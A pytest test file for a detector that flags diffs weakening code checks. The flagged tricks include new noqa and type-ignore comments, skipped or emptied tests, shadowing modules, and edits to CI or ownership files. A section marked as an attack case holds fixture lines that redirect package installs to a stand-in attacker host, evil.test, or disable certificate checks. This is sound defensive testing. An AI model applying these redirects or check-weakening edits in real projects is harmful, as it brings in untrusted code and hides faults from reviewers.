"""Every way to weaken a check is reported, and a change without effect is not."""

from __future__ import annotations

import pytest

from gate.policy.types import CheckSettings
from gate.weakenings import FileDiff, find_weakenings
from gate.weakenings.detectors import commands

RUFF = "[tool.ruff.lint]\nselect = ['E', 'F', 'B']\nignore = ['E501']\n"

PER_FILE = "[lint.per-file-ignores]\n'a.py' = ['F', 'E']\n"
COVER = "[pytest]\naddopts = --cov-fail-under=90\n"
CHECKING = "from typing import TYPE_CHECKING\n\nif TYPE_CHECKING:\n    from b import c\n"
CASES = "@pytest.mark.parametrize('x', [1, 2])\ndef test_a(x): assert f(x)\n"
DEV = "[dependency-groups]\ndev = ['ruff>=1']\n"


def rules(path: str, old: str | None, new: str | None) -> list[str]:
    diffs = FileDiff(path, None if old is None else old.encode(), None if new is None else new.encode())
    return [finding.rule for finding in find_weakenings([diffs])]


@pytest.mark.parametrize(
    ("path", "old", "new", "rule"),
    [
        pytest.param(
            "pyproject.toml", RUFF, RUFF + "extend-ignore = ['F']\n", "weaker-ruff", id="more ignored"
        ),
        pytest.param("pyproject.toml", RUFF, RUFF.replace(", 'B'", ""), "weaker-ruff", id="less selected"),
        pytest.param("pyproject.toml", "", "[tool.ruff]\nexclude = ['app']\n", "weaker-ruff", id="exclude"),
        pytest.param("pyproject.toml", "", "[tool.ruff]\nextend = '../x.toml'\n", "weaker-ruff", id="extend"),
        pytest.param(
            "pyproject.toml",
            "",
            "[tool.ruff.lint.per-file-ignores]\n'*' = ['ALL']\n",
            "weaker-ruff",
            id="per file",
        ),
        pytest.param("tox.ini", "", "[flake8]\nignore = F821\n", "weaker-flake8", id="flake8 ignores more"),
        pytest.param("app/ruff.toml", None, "line-length = 79\n", "nested-settings", id="nested ruff.toml"),
        pytest.param("app/ruff.toml", None, "", "nested-settings", id="empty nested ruff.toml"),
        pytest.param(
            "pyproject.toml", "[tool.mypy]\nstrict = true\n", "[tool.mypy]\n", "weaker-mypy", id="not strict"
        ),
        pytest.param(
            "pyproject.toml",
            "",
            "[[tool.mypy.overrides]]\nmodule = 'app.*'\nignore_errors = true\n",
            "weaker-mypy",
            id="override",
        ),
        pytest.param("mypy.ini", "[mypy]\n", "[mypy]\nexclude = app/\n", "weaker-mypy", id="mypy exclude"),
        pytest.param("setup.cfg", "", "[mypy-app]\nignore_errors = True\n", "weaker-mypy", id="ini override"),
        pytest.param(
            "pytest.ini",
            "[pytest]\n",
            "[pytest]\naddopts = --collect-only\n",
            "weaker-pytest",
            id="collect only",
        ),
        pytest.param("tox.ini", "", "[pytest]\naddopts = -k 'not slow'\n", "weaker-pytest", id="-k"),
        pytest.param(
            "pyproject.toml",
            "",
            "[tool.pytest.ini_options]\naddopts = ['--deselect', 'tests/a.py::b']\n",
            "weaker-pytest",
            id="deselect",
        ),
        pytest.param(
            "setup.cfg",
            "[tool:pytest]\nxfail_strict = true\n",
            "[tool:pytest]\n",
            "weaker-pytest",
            id="xfail",
        ),
        pytest.param("pyproject.toml", "", "[tool.ruff\n", "unreadable-settings", id="broken toml"),
        pytest.param("a.py", "x = 1\n", "x = 1  # noqa\n", "new-noqa", id="noqa"),
        pytest.param("a.py", "x = 1  # noqa: E1\n", "x = 1  # noqa: E1, F\n", "new-noqa", id="wider noqa"),
        pytest.param("a.py", "", "# ruff: noqa\n", "new-noqa", id="file noqa"),
        pytest.param("a.py", "", "# mypy: ignore-errors\n", "new-mypy-inline", id="mypy inline"),
        pytest.param(
            "a.py", "f(1)\n", "f(1)  # type: ignore[arg-type]\n", "new-type-ignore", id="type ignore"
        ),
        pytest.param(
            "a.py", "f()\n", "f()  # gate: ignore[undefined-name]\n", "new-gate-ignore", id="gate ignore"
        ),
        pytest.param(
            "a.ipynb",
            '{"cells": []}',
            '{"cells": [{"source": ["f()  # gate: ignore[undefined-name]\\n"]}]}',
            "new-gate-ignore",
            id="gate ignore in a notebook",
        ),
        pytest.param(
            "logging.yaml",
            "version: 1\n",
            "version: 1  # gate: ignore[unknown-reference]\n",
            "new-gate-ignore",
            id="gate ignore in settings",
        ),
        pytest.param("test_a.py", "", "@pytest.mark.skip\ndef test_a(): ...\n", "new-skip", id="skip"),
        pytest.param(
            "test_a.py", "", "@pytest.mark.xfail(reason='x')\ndef f(): ...\n", "new-skip", id="xfail"
        ),
        pytest.param("conftest.py", "", "collect_ignore = ['a.py']\n", "new-skip", id="collect_ignore"),
        pytest.param("tests/test_a.py", "def test_a(): assert 1\n", None, "deleted-test", id="deleted file"),
        pytest.param(
            "test_a.py", "def test_a(): assert 1\n", "def tst_a(): assert 1\n", "deleted-test", id="renamed"
        ),
        pytest.param(
            "test_a.py", "class TestA:\n def test_a(self): assert 1\n", "", "deleted-test", id="emptied file"
        ),
        pytest.param(
            "test_a.py", "def test_a(): assert f()\n", "def test_a(): f()\n", "emptied-test", id="emptied"
        ),
        pytest.param("json.py", None, "", "shadowed-library", id="json.py"),
        pytest.param("src/logging/__init__.py", None, "", "shadowed-library", id="src package"),
        pytest.param("ruff/__init__.py", None, "", "shadowed-tool", id="ruff package"),
        pytest.param("sitecustomize.py", None, "", "shadowed-tool", id="sitecustomize"),
        pytest.param(".venv/pyvenv.cfg", None, "", "committed-environment", id="environment"),
        pytest.param("tests/pyvenv.cfg", None, "", "committed-environment", id="folder posing as one"),
        pytest.param("tools/conda-meta/history", None, "", "committed-environment", id="conda"),
        pytest.param("tools/bin/python3.12", None, "", "committed-environment", id="interpreter"),
        pytest.param(
            "e/lib/python3.9/site-packages/a.py", "", "1", "committed-environment", id="package in it"
        ),
        pytest.param(".pdm-python", "/a", "/b", "committed-environment", id="pdm's note"),
        pytest.param("app.pyi", None, "", "shadowing-stub", id="stub"),
        pytest.param("x.pth", None, "import os\n", "path-file", id="pth"),
        pytest.param("app/py.typed", "", None, "lost-py-typed", id="py.typed"),
        pytest.param("gate.yaml", "version: 1\n", "version: 1\n\n", "guarded-policy", id="policy"),
        pytest.param("docs/CODEOWNERS", None, "* @me\n", "guarded-owners", id="second CODEOWNERS"),
        pytest.param(
            ".github/codeowners", None, "* @me\n", "guarded-owners", id="CODEOWNERS by another case"
        ),
        pytest.param(".github/workflows/ci.yml", "a", "b", "guarded-ci", id="workflow"),
        pytest.param("app/.gitattributes", None, "* -diff\n", "guarded-attributes", id="attributes"),
        pytest.param(".gitignore", "", "app/\n", "ignored-code", id="gitignore"),
    ],
)
def test_a_weakening_is_found(path: str, old: str | None, new: str | None, rule: str) -> None:
    assert rule in rules(path, old, new)


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        pytest.param(
            "pyproject.toml",
            RUFF,
            "[tool.ruff]\nlint.ignore=['E501']\nlint.select=['F','B','E']\n",
            id="reordered",
        ),
        pytest.param("pyproject.toml", RUFF, "[project]\nname='a'\n" + RUFF, id="another table"),
        pytest.param("pyproject.toml", RUFF, RUFF.replace("'B'", "'B', 'UP'"), id="more selected"),
        pytest.param("pyproject.toml", RUFF, RUFF.replace("ignore = ['E501']\n", ""), id="less ignored"),
        pytest.param("pyproject.toml", "", "[tool.mypy]\nstrict = true\n", id="strict"),
        pytest.param("mypy.ini", "[mypy]\nexclude = a\n", "[mypy]\nstrict = true\n", id="less excluded"),
        pytest.param("pytest.ini", "[pytest]\n", "[pytest]\naddopts = -q -ra\n", id="quiet"),
        pytest.param(
            "a.py", "x = 1  # noqa: E1\n\n\n", "\n\n\n\nx = 1  # noqa: E1\n", id="a noqa that moved"
        ),
        pytest.param("a.py", "", "x = '# noqa'\n", id="a noqa in a string"),
        pytest.param(
            "test_a.py", "def test_a(): assert 1\n", "def test_a():\n  assert 1\n  assert 2\n", id="more"
        ),
        pytest.param("json.py", "", "x = 1\n", id="a json.py that was there before"),
        pytest.param("app/json.py", None, "", id="a submodule"),
        pytest.param("README.md", "a", "b # noqa", id="prose"),
        pytest.param("a.yaml", "", "x: 1  # noqa, pytest.skip\n", id="a noqa that no check heeds"),
        pytest.param(".gitignore", "", "__pycache__/\n*.sqlite\n.venv/\n", id="ignoring no code"),
        pytest.param(
            "ruff.toml", "lint.select = ['E4']\n", "lint.select = ['E']\n", id="select more at once"
        ),
        pytest.param("ruff.toml", "lint.ignore = ['E']\n", "lint.ignore = ['E501']\n", id="ignore a part"),
        pytest.param("ruff.toml", PER_FILE, PER_FILE.replace(", 'E'", ""), id="less per file"),
        pytest.param("ruff.toml", PER_FILE, "", id="nothing per file"),
        pytest.param(
            "setup.cfg", "", "[flake8]\nmax-line-length = 200\n", id="a setting of flake8 without effect"
        ),
        pytest.param("ruff.toml", "", "line-length = 120\n", id="a longer line that no rule asks about"),
        pytest.param("pytest.ini", COVER, COVER.replace("90", "95"), id="more coverage"),
        pytest.param(
            ".coveragerc", "[html]\ndirectory = a\n", "[html]\ndirectory = b\n", id="coverage's page"
        ),
        pytest.param("a.py", "", CHECKING, id="imports for the type checker"),
        pytest.param("a.py", "", "type A[*T = int] = T\n", id="a newer Python"),
        pytest.param("conftest.py", "", "import pytest\n\n\n@pytest.fixture\ndef a(): ...\n", id="a fixture"),
        pytest.param("test_a.py", CASES, CASES.replace("2]", "2, 3]"), id="more cases"),
        pytest.param("test_a.py", CASES, CASES.replace("f(x)", "g(x, 1)"), id="something else is asserted"),
        pytest.param(
            "test_a.py", "def test_a(): assert True\n", "def test_a(): pass\n", id="what could not fail"
        ),
        pytest.param("requirements.txt", "ruff==0.17.6\nx==2\n", "ruff==0.17.7\nx==1\n", id="a newer tool"),
        pytest.param("pyproject.toml", DEV, DEV.replace("ruff>=1", "ruff>=1,<2"), id="a cap above"),
        pytest.param("src/app/build/a.py", "", "x = 1\n", id="a folder that was there"),
        pytest.param("a.py", "", "x = 1  # größe\r\n", id="lines as Windows has them"),
        pytest.param("a.py", "", "# coding: latin-1\n", id="a plain encoding"),
        pytest.param("a.py", "", "# fmt: off\n", id="what only a formatter heeds, where none is asked"),
    ],
)
def test_what_hides_nothing_is_no_weakening(path: str, old: str | None, new: str | None) -> None:
    diffs = FileDiff(path, None if old is None else old.encode(), None if new is None else new.encode())
    assert commands.with_commands(find_weakenings([diffs]), [], [diffs], {}, []) == ()


def test_what_a_formatter_heeds_counts_where_one_is_asked() -> None:
    diffs = [FileDiff("a.py", b"", b"x = 1  # fmt: skip\n")]
    check = CheckSettings("format", "command", command=("ruff", "format", "--check"))
    (found,) = commands.with_commands(find_weakenings(diffs), [], diffs, {}, [check])
    assert found.rule == "new-format-off"


def test_the_settings_of_a_command_count_where_it_is_run() -> None:
    diffs = [FileDiff("setup.cfg", b"[flake8]\nignore = E\n", b"[flake8]\nignore = E, F\n")]
    check = CheckSettings("style", "command", command=("python3", "-m", "flake8"))
    (found,) = commands.with_commands((), [], diffs, {}, [check])
    assert (found.rule, commands.with_commands((), [], diffs, {}, [])) == ("guarded-command", ())


def test_settings_that_hold_already_are_not_displaced_by_those_that_come_after_them() -> None:
    diffs = [FileDiff("setup.cfg", b"", b"[mypy]\nstrict = True\n")]
    assert find_weakenings(diffs, {"mypy.ini": b"[mypy]\n"}) == ()


def test_a_test_that_moves_to_another_file_is_not_gone() -> None:
    source = b"def test_a(): assert 1\n"
    assert find_weakenings([FileDiff("test_a.py", source, None), FileDiff("test_b.py", None, source)]) == ()


def test_a_finding_names_its_line_and_what_it_would_hide() -> None:
    (finding,) = find_weakenings([FileDiff("a.py", b"x = 1\n", b"x = 1\ny = 2  # noqa: F841\n")])
    assert (finding.line, finding.message) == (2, "`# noqa: F841` would hide lint findings")


USUAL = """\
[[package]]
source = { registry = "https://pypi.org/simple" }
sdist = { url = "https://files.pythonhosted.org/a.tar.gz" }
"""


@pytest.mark.attack(27, "install packages from another source")
@pytest.mark.parametrize(
    ("path", "old", "new", "where"),
    [
        pytest.param("requirements.txt", "a\n", "--index-url https://evil.test/simple\na\n", "evil.test", id="pip"),
        pytest.param("requirements.txt", "a\n", "a\n-i https://evil.test/simple\n", "evil.test", id="-i"),
        pytest.param("requirements/dev.in", "a\n", "a\n--find-links=./wheels\n", "./wheels", id="a folder"),
        pytest.param("requirements.txt", "a\n", "--trusted-host evil.test\na\n", "evil.test", id="trusted"),
        pytest.param("requirements.txt", "a\n", "a @ git+https://evil.test/a.git@v1\n", "evil.test/a", id="git"),
        pytest.param("requirements.txt", "a\n", "a @ https://evil.test/a.whl\n", "evil.test", id="link"),
        pytest.param(
            "requirements.txt", "-i https://a.example\n", "-i http://a.example\n", "http://a.example", id="no TLS"
        ),
        pytest.param("pyproject.toml", "", '[[tool.uv.index]]\nurl = "https://evil.test/s"\n', "evil.test", id="uv"),
        pytest.param("uv.toml", "", 'index-url = "https://evil.test/s"\n', "evil.test", id="uv.toml"),
        pytest.param(
            "pyproject.toml", "", '[[tool.poetry.source]]\nname = "x"\nurl = "https://evil.test"\n', "evil.test",
            id="poetry",
        ),
        pytest.param("pyproject.toml", "", '[[tool.pdm.source]]\nurl = "https://evil.test"\n', "evil.test", id="pdm"),
        pytest.param(
            "pyproject.toml", "", '[project]\ndependencies = ["a @ https://evil.test/a.whl"]\n', "evil.test",
            id="a dependency",
        ),
        pytest.param(
            "pyproject.toml", "", '[tool.uv.sources]\na = { git = "https://evil.test/a" }\n', "evil.test", id="source"
        ),
        pytest.param("Pipfile", "", '[[source]]\nurl = "https://evil.test/simple"\n', "evil.test", id="Pipfile"),
        pytest.param(
            "Pipfile.lock", "{}", '{"_meta": {"sources": [{"url": "https://evil.test/s"}]}}', "evil.test",
            id="Pipfile.lock",
        ),
        pytest.param(
            "uv.lock", USUAL, USUAL.replace("pypi.org", "evil.test"), "evil.test",
            id="uv.lock",
        ),
        pytest.param(
            "uv.lock", USUAL, USUAL.replace("files.pythonhosted.org", "evil.test"),
            "evil.test", id="one download",
        ),
        pytest.param(
            "poetry.lock", "", '[[package]]\n[package.source]\ntype = "legacy"\nurl = "https://evil.test"\n',
            "evil.test", id="poetry.lock",
        ),
        pytest.param("pylock.toml", "", '[[packages]]\nindex = "https://evil.test"\n', "evil.test", id="pylock"),
        pytest.param("pip.conf", "", "[global]\nextra-index-url = https://evil.test\n", "evil.test", id="pip.conf"),
        pytest.param("tox.ini", "", "[testenv]\ndeps = -i https://evil.test\n", "evil.test", id="tox"),
        pytest.param("environment.yml", "", "channels:\n  - evil\n", "conda.anaconda.org.evil", id="conda"),
        pytest.param(
            "ci/dev-env.yaml", "", "channels: [evil]\ndependencies: [a]\n", "conda.anaconda.org.evil",
            id="inline channels",
        ),
        pytest.param(
            "environment.yml", "", "dependencies:\n- evil::a\n", "conda.anaconda.org.evil", id="channel of one package"
        ),
        pytest.param("pixi.toml", "", '[workspace]\nchannels = ["evil"]\n', "conda.anaconda.org.evil", id="pixi"),
        pytest.param("deps.txt", "a\n", "a @ https://evil.test/a.whl\n", "evil.test", id="a list by another name"),
        pytest.param("requirements.txt", "a\n", "-ihttps://evil.test/s\na\n", "evil.test", id="no blank"),
        pytest.param("requirements.txt", "a\n", "--find-links wheels\na\n", "./wheels", id="a folder by its name"),
        pytest.param("requirements.txt", "a\n", "--index-url ${URL}\na\n", "${URL}", id="a variable"),
        pytest.param(
            "tox.ini", "", "[testenv]\nsetenv =\n  PIP_INDEX_URL=https://evil.test\n", "evil.test", id="tox sets it"
        ),
        pytest.param(
            "tox.toml", "", '[env_run_base]\nset_env = {UV_INDEX_URL = "https://evil.test"}\n', "evil.test",
            id="tox.toml",
        ),
        pytest.param(
            "hatch.toml", "", '[envs.a.env-vars]\nPIP_INDEX_URL = "https://evil.test"\n', "evil.test", id="hatch"
        ),
        pytest.param("setup.cfg", "", "[easy_install]\nfind_links = https://evil.test\n", "evil.test", id="setup.cfg"),
        pytest.param(
            "noxfile.py", "", 's.install("--index-url", "https://evil.test", "a")\n', "evil.test", id="nox"
        ),
        pytest.param(
            ".pre-commit-config.yaml", "", "additional_dependencies: ['--index-url=https://evil.test']\n", "evil.test",
            id="pre-commit",
        ),
        pytest.param("Dockerfile.dev", "", "ENV PIP_INDEX_URL https://evil.test\n", "evil.test", id="Dockerfile"),
        pytest.param("Makefile", "", "a:\n\tuv pip install -i https://evil.test a\n", "evil.test", id="Makefile"),
        pytest.param("ci/a.sh", "", "export PIP_CONFIG_FILE=ci/pip.conf\n", "./ci/pip.conf", id="another pip.conf"),
        pytest.param(".env", "", "UV_DEFAULT_INDEX=https://evil.test\n", "evil.test", id=".env"),
        pytest.param("uv.toml", "", 'allow-insecure-host = ["evil.test"]\n', "evil.test", id="insecure host"),
        pytest.param(
            "pyproject.toml", "", '[tool.uv]\nindex-strategy = "unsafe-best-match"\n',
            "any index that has the package (index-strategy)", id="any index",
        ),
        pytest.param(
            "Pipfile", "", '[[source]]\nurl = "https://pypi.org/simple"\nverify_ssl = false\n',
            "an index whose certificate is not verified", id="no certificate",
        ),
    ],
)  # fmt: skip
def test_another_package_index_is_found(path: str, old: str, new: str, where: str) -> None:
    findings = find_weakenings([FileDiff(path, old.encode(), new.encode())])
    messages = [finding.message for finding in findings if finding.rule == "package-index"]
    assert messages == [f"packages come from {where}, which was not a source before"]


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        pytest.param("requirements.txt", "a==1\n", "a==2\nb  # see https://b.example\n", id="other versions"),
        pytest.param("uv.lock", "", USUAL, id="the usual index"),
        pytest.param(
            "pyproject.toml",
            "",
            '[project.urls]\nHomepage = "https://a.example"\n',
            id="addresses for people",
        ),
        pytest.param(
            "pyproject.toml", "", '[tool.towncrier]\nissue_format = "https://a.example"\n', id="other tools"
        ),
        pytest.param(
            "requirements.txt", "-i https://a.example/s\n", "-i https://a.example/s\nb\n", id="as before"
        ),
        pytest.param(
            "pip.conf",
            "[global]\nindex-url = https://pypi.org/simple\n",
            "[global]\ntimeout = 9\n",
            id="the usual one",
        ),
        pytest.param("README.md", "", "pip install -i https://a.example a\n", id="documentation"),
        pytest.param("app/a.py", "", 'INDEX = "--index-url https://a.example"\n', id="a program"),
        pytest.param("Makefile", "", "a:\n\tgrep -i https://a.example b\n", id="another tool's option"),
        pytest.param(
            "compose.yml", "", "environment:\n  INDEX_URL: https://a.example\n", id="another variable"
        ),
        pytest.param("slack.yml", "", "notify:\n  channels:\n    - dev\n", id="channels of people"),
    ],
)
def test_the_same_package_index_is_none(path: str, old: str, new: str) -> None:
    assert "package-index" not in rules(path, old, new)
